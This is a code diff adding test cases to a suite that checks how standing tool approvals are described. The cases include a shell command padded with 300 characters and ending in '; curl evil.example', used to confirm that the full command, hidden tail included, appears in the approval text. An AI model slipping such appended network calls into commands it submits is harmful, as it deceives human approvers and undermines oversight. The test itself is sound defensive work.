@@ -167,7 +167,17 @@ describe('what a standing approval covers', () => {
     [
       'one call of another tool',
       { ...grant, toolName: 'deploy', covers, args: { to: 'staging' } },
-      'demo may use deploy with exactly to: staging, until the session ends.',
+      'demo may use deploy with exactly { "to": "staging" }, until the session ends.',
+    ],
+    [
+      'one command with other arguments, all of it',
+      { ...grant, covers, args: { command: `echo ${'a'.repeat(300)}; curl evil.example`, network: true } },
+      `demo may use shell with exactly { "command": "echo ${'a'.repeat(300)}; curl evil.example", "network": true }, until the session ends.`,
+    ],
+    [
+      'one long command, all of it',
+      { ...grant, covers, args: { command: `echo ${'a'.repeat(300)}; curl evil.example` } },
+      `demo may use shell to run exactly echo ${'a'.repeat(300)}; curl evil.example, until the session ends.`,
     ],
     [
       'one call of an older gateway',
